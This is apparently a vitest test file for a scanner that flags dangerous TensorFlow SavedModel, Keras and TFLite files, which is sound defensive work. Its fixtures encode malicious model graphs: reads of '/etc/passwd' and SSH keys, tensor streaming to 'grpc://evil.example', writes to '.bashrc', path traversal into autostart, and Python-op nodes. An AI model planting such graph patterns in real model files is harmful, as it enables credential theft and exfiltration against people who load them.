import { mkdirSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Finding } from '../types.js';
import { scanSavedModel, scanTflite } from './savedmodel.js';
import { fileTarget, pbBytes as bytes, pbInt as int, pbStr as str, tempDir } from './test-fixtures.js';

const cat = (...b: Buffer[]) => Buffer.concat(b);

const attr = (key: string, value: Buffer) => bytes(5, cat(str(1, key), bytes(2, value)));
const stringConst = (values: string[]) => attr('value', bytes(8, cat(int(1, 7), ...values.map((v) => str(8, v)))));
function node(name: string, op: string, inputs: string[] = [], more: Buffer[] = []): Buffer {
  return cat(str(1, name), str(2, op), ...inputs.map((i) => str(3, i)), ...more);
}
const graphDef = (nodes: Buffer[], functions: Buffer[] = []) =>
  cat(...nodes.map((x) => bytes(1, x)), ...(functions.length ? [bytes(2, cat(...functions.map((f) => bytes(1, f))))] : []));
const fn = (name: string, nodes: Buffer[]) => cat(bytes(1, str(1, name)), ...nodes.map((x) => bytes(3, x)));
const savedModel = (graph: Buffer, meta: Buffer[] = []) => cat(int(1, 1), bytes(2, cat(bytes(2, graph), ...meta)));

/** The TF2 `_traced_save` function: every op comes from the function argument `file_prefix`. */
const tracedSave = fn('__inference__traced_save_42', [
  node('StaticRegexFullMatch', 'StaticRegexFullMatch', ['file_prefix']),
  node('Const', 'Const', [], [stringConst(['.part'])]),
  node('Const_1', 'Const', [], [stringConst(['_temp/part'])]),
  node('Select', 'Select', ['StaticRegexFullMatch:output:0', 'Const:output:0', 'Const_1:output:0']),
  node('StringJoin', 'StringJoin', ['file_prefix', 'Select:output:0']),
  node('num_shards', 'Const'),
  node('ShardedFilename', 'ShardedFilename', ['StringJoin:output:0', 'num_shards:output:0', 'num_shards:output:0']),
  node('SaveV2/tensor_names', 'Const', [], [stringConst(['layer/kernel/.ATTRIBUTES/VARIABLE_VALUE'])]),
  node('SaveV2', 'SaveV2', ['ShardedFilename:filename:0', 'SaveV2/tensor_names:output:0', 'SaveV2/tensor_names:output:0', 'read_value']),
  node('MergeV2Checkpoints/checkpoint_prefixes', 'Pack', ['ShardedFilename:filename:0', '^SaveV2']),
  node('MergeV2Checkpoints', 'MergeV2Checkpoints', ['MergeV2Checkpoints/checkpoint_prefixes:output:0', 'file_prefix']),
]);
const tracedRestore = fn('__inference__traced_restore_43', [node('RestoreV2', 'RestoreV2', ['file_prefix', 'names', 'slices'])]);
const mainGraph = [node('saver_filename', 'Placeholder'), node('StatefulPartitionedCall', 'StatefulPartitionedCall', ['saver_filename'])];

const dir = tempDir('garden-tf-');
let n = 0;
async function scan(data: Buffer, name = 'saved_model.pb'): Promise<Finding[]> {
  const abs = path.join(dir, `m${n++}`, name);
  mkdirSync(path.dirname(abs), { recursive: true });
  const t = fileTarget(abs, data, 'savedmodel', { path: `m/${name}` });
  return name.endsWith('.tflite') ? scanTflite({ ...t, format: 'tflite' }) : scanSavedModel(t);
}
const codes = (fs: Finding[]) => fs.map((f) => f.code);

describe('SavedModel validation', () => {
  it('passes the standard saver graph (TF2 traced save/restore functions)', async () => {
    expect(await scan(savedModel(graphDef(mainGraph, [tracedSave, tracedRestore])))).toEqual([]);
  });

  it('passes the TF1 saver graph and asset paths the loader rewrites', async () => {
    const tf1 = graphDef([
      node('save/filename/input', 'Const', [], [stringConst(['model'])]),
      node('save/filename', 'PlaceholderWithDefault', ['save/filename/input']),
      node('save/Const', 'PlaceholderWithDefault', ['save/filename']),
      node('save/SaveV2', 'SaveV2', ['save/Const', 'names', 'slices', 'v']),
      node('save/RestoreV2', 'RestoreV2', ['save/Const', 'names', 'slices']),
      node('asset_path', 'Const', [], [stringConst(['/tmp/export/assets/vocab.txt'])]),
      node('table_init', 'InitializeTableFromTextFileV2', ['table', 'asset_path']),
    ]);
    const asset = bytes(6, cat(bytes(1, str(1, 'asset_path:0')), str(2, 'vocab.txt')));
    expect(await scan(savedModel(tf1, [asset]))).toEqual([]);
  });

  it('flags Python ops as critical, wherever they are', async () => {
    const inFunction = savedModel(graphDef(mainGraph, [tracedSave, fn('__inference_call_7', [node('py', 'EagerPyFunc', ['x'])])]));
    const f = await scan(inFunction);
    expect(f).toEqual([expect.objectContaining({ code: 'TF_PYTHON_OP', severity: 'critical' })]);
    expect(f[0]!.message).toContain('__inference_call_7');
  });

  it('flags file and network ops, naming the paths fixed in the graph', async () => {
    const read = await scan(savedModel(graphDef([node('p', 'Const', [], [stringConst(['/etc/passwd'])]), node('r', 'ReadFile', ['p'])])));
    expect(read).toEqual([expect.objectContaining({ code: 'TF_FILE_ACCESS', severity: 'high' })]);
    expect(read[0]!.message).toContain('/etc/passwd');
    for (const op of ['WriteFile', 'MatchingFiles', 'ImmutableConst', 'CSVDatasetV2', 'InitializeTableFromTextFile']) {
      const f = await scan(savedModel(graphDef([node('p', 'Const', [], [stringConst(['/root/.ssh/id_rsa'])]), node('o', op, ['t', 'p'])])));
      expect(codes(f), op).toEqual(['TF_FILE_ACCESS']);
    }
    const debug = await scan(savedModel(graphDef([node('d', 'DebugIdentityV3', ['x'], [attr('debug_urls', bytes(1, str(2, 'grpc://evil.example:80')))])])));
    expect(debug).toEqual([expect.objectContaining({ code: 'TF_NETWORK' })]);
    expect(debug[0]!.message).toContain('grpc://evil.example');
    const print = await scan(savedModel(graphDef([node('p', 'PrintV2', ['x'], [attr('output_stream', str(2, 'file:///home/u/.bashrc'))])])));
    expect(codes(print)).toEqual(['TF_FILE_ACCESS']);
    expect(await scan(savedModel(graphDef([node('p', 'PrintV2', ['x'], [attr('output_stream', str(2, 'stderr'))])])))).toEqual([]);
  });

  it('flags saver ops whose path is fixed or computed in the graph', async () => {
    const fixed = graphDef([node('c', 'Const', [], [stringConst(['../../../home/u/.config/autostart/x'])]), node('j', 'StringJoin', ['c']), node('s', 'SaveV2', ['j', 'n', 'n', 'v'])]);
    expect(codes(await scan(savedModel(fixed)))).toEqual(['TF_FILE_ACCESS']);
    const computed = graphDef([node('d', 'DecodeBase64', ['c']), node('s', 'MergeV2Checkpoints', ['d', 'saver_filename'])]);
    expect(await scan(savedModel(computed))).toEqual([expect.objectContaining({ code: 'TF_FILE_PATH_COMPUTED', severity: 'medium' })]);
  });

  it('checks Keras metadata for Lambda layers (saved_model.pb and keras_metadata.pb)', async () => {
    const lambda = JSON.stringify({ class_name: 'Lambda', name: 'lambda', config: { name: 'lambda', function: { class_name: '__lambda__', config: { code: 'YQ==' } } } });
    const userObject = bytes(7, bytes(1, bytes(4, cat(str(1, '_tf_keras_layer'), str(3, lambda)))));
    expect(codes(await scan(savedModel(graphDef(mainGraph), [userObject])))).toEqual(['KERAS_LAMBDA']);
    const meta = bytes(1, cat(int(2, 1), str(3, 'root.layer-1'), str(4, '_tf_keras_layer'), str(5, lambda)));
    expect(codes(await scan(meta, 'keras_metadata.pb'))).toEqual(['KERAS_LAMBDA']);
    expect(codes(await scan(bytes(1, str(5, '{not json')), 'keras_metadata.pb'))).toEqual(['TF_PARSE']);
  });

  it('reads a frozen GraphDef as well', async () => {
    expect(codes(await scan(graphDef([node('py', 'PyFunc')]), 'frozen.pb'))).toEqual(['TF_PYTHON_OP']);
  });

  it('fails closed on malformed or empty SavedModels', async () => {
    const good = savedModel(graphDef(mainGraph, [tracedSave]));
    expect(codes(await scan(good.subarray(0, good.length - 5)))).toEqual(['TF_PARSE']);
    expect(codes(await scan(int(1, 1)))).toEqual(['TF_PARSE']);
  });

  it('recognises the other files of a SavedModel folder by name', async () => {
    const magic = Buffer.from([0x57, 0xfb, 0x80, 0x8b, 0x24, 0x75, 0x47, 0xdb]);
    expect(await scan(Buffer.concat([Buffer.alloc(60), magic]), 'variables.index')).toEqual([]);
    expect(codes(await scan(Buffer.alloc(60), 'variables.index'))).toEqual(['TF_PARSE']);
    expect(codes(await scan(Buffer.alloc(64), 'variables.data-00000-of-00001'))).toEqual(['TF_CHECKPOINT_DATA']);
    expect(await scan(cat(int(1, 123), int(2, 456)), 'fingerprint.pb')).toEqual([]);
    expect(codes(await scan(Buffer.from('node {\n  name: "p"\n  op: "PyFunc"\n}\n'), 'saved_model.pbtxt'))).toEqual(['TF_PYTHON_OP']);
  });

  it('recognises TFLite flatbuffers', async () => {
    const tfl = Buffer.concat([Buffer.from([16, 0, 0, 0]), Buffer.from('TFL3'), Buffer.alloc(56)]);
    expect(codes(await scan(tfl, 'model.tflite'))).toEqual(['TFLITE_MODEL']);
    const broken = Buffer.concat([Buffer.from([0xff, 0xff, 0, 0]), Buffer.from('TFL3'), Buffer.alloc(8)]);
    expect(codes(await scan(broken, 'model.tflite'))).toEqual(['TFLITE_PARSE']);
  });
});
